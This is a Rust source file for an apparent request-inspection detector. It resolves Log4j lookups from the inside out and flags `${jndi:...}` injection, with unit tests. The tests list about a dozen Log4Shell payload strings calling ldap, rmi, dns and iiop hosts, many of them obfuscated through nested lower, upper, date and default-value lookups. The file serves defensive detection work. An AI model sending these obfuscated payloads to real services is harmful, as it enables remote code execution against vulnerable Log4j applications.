//! Log4j lookups: `${jndi:…}` in any spelling. Lookups are resolved from the inside out, as in
//! Log4j.

use super::Match;
use shared::{
    AttackType,
    Severity::{Critical, Medium},
};

/// Limit of nesting.
const MAX_NESTING: usize = 24;
/// Limit of a resolved lookup; the searched names are short.
const MAX_RESOLVED: usize = 256;

struct Open {
    start: usize,
    text: Vec<u8>,
}

pub(super) fn detect(value: &[u8]) -> Option<Match<'static>> {
    let first = memchr::memchr_iter(b'$', value).find(|at| value.get(at + 1) == Some(&b'{'))?;
    let mut open: Vec<Open> = Vec::new();
    let mut at = first;
    let mut is_nested = false;
    while let Some(&byte) = value.get(at) {
        let is_opening = byte == b'$' && value.get(at + 1) == Some(&b'{');
        if is_opening && open.len() < MAX_NESTING {
            open.push(Open { start: at, text: Vec::new() });
            at += 2;
            continue;
        }
        at += 1;
        if open.is_empty() {
            let Some(next) = memchr::memchr(b'$', &value[at..]) else { break };
            at += next;
            continue;
        }
        if byte != b'}' {
            if let Some(Open { text, .. }) = open.last_mut().filter(|it| it.text.len() < MAX_RESOLVED) {
                text.push(byte);
            }
            continue;
        }
        let Some(inner) = open.pop() else { continue };
        if is_remote(&inner.text) {
            return Some(matched("rce-jndi-lookup", value, inner.start..at));
        }
        let resolved = resolve(&inner.text);
        is_nested |= resolved.is_some() && is_odd(&inner.text);
        let resolved = resolved.unwrap_or_default();
        // A lookup may resolve to the dollar sign of the next.
        if resolved.ends_with(b"$") && value.get(at) == Some(&b'{') {
            open.push(Open { start: inner.start, text: Vec::new() });
            at += 1;
        } else if let Some(outer) = open.last_mut() {
            outer.text.extend(resolved);
        }
    }
    // Log4j requires the closing bracket, which the application may append.
    if let Some(unclosed) = open.iter().find(|it| is_remote(&it.text)) {
        return Some(matched("rce-jndi-lookup", value, unclosed.start..value.len()));
    }
    is_nested.then(|| matched("rce-lookup-disguise", value, first..value.len()))
}

fn matched(signature: &'static str, value: &[u8], span: std::ops::Range<usize>) -> Match<'static> {
    let severity = if signature == "rce-jndi-lookup" { Critical } else { Medium };
    Match { attack_type: AttackType::Rce, signature, severity, span: span.start..span.end.min(value.len()) }
}

fn is_remote(text: &[u8]) -> bool {
    let text = text.trim_ascii();
    text.get(..5).is_some_and(|name| name.eq_ignore_ascii_case(b"jndi:"))
}

/// Lookups that only resolve to letters, which no benign template needs.
fn is_odd(text: &[u8]) -> bool {
    text.starts_with(b"::-")
        || text.len() <= 8 && (text.starts_with(b"lower:") || text.starts_with(b"upper:"))
}

/// The value of a lookup, where it does not depend on the machine.
fn resolve(text: &[u8]) -> Option<Vec<u8>> {
    if let Some(at) = memchr::memmem::find(text, b":-") {
        return Some(text[at + 2..].to_vec());
    }
    let colon = memchr::memchr(b':', text)?;
    let argument = &text[colon + 1..];
    match &*text[..colon].to_ascii_lowercase() {
        b"lower" => Some(argument.to_ascii_lowercase()),
        // The dotless i is upper-cased to a plain one.
        b"upper" => {
            Some(String::from_utf8_lossy(argument).replace('ı', "I").to_ascii_uppercase().into_bytes())
        }
        b"date" => Some(argument.iter().copied().filter(|byte| *byte != b'\'').collect()),
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn signature_of(value: &str) -> Option<&'static str> {
        detect(value.as_bytes()).map(|it| it.signature)
    }

    #[test]
    fn resolves_every_spelling_of_jndi() {
        for attack in [
            "${jndi:ldap://x.example/a}",
            "x=${JNDI:rmi://x} y",
            "${${lower:j}ndi:dns://x}",
            "${${::-j}${::-n}${::-d}${::-i}:ldap://x}",
            "${${env:NOPE:-j}n${lower:D}${upper:ı}:iiop://x}",
            "${${date:'j'}${date:'n'}di:ldap://x}",
            "${${lower:${lower:${upper:j}}}ndi:ldap://x}",
            "${jndi:ldap://never.closed",
            "$${a:${b:-$}{jndi:x}}",
            "${:1:-x$}{jndi:ldap://x}",
        ] {
            assert_eq!(signature_of(attack), Some("rce-jndi-lookup"), "{attack}");
        }
    }

    #[test]
    fn finds_letters_spelled_as_lookups() {
        assert_eq!(signature_of("${::-j}"), Some("rce-lookup-disguise"));
    }

    #[test]
    fn passes_templates_of_other_languages() {
        for benign in [
            "${price}",
            "${env:HOME}/bin",
            "${PORT:-8080}",
            "${a ? `${b}` : c}",
            "jndi: a lookup",
            "${",
            "${}}",
        ] {
            assert_eq!(signature_of(benign), None, "{benign}");
        }
    }
}
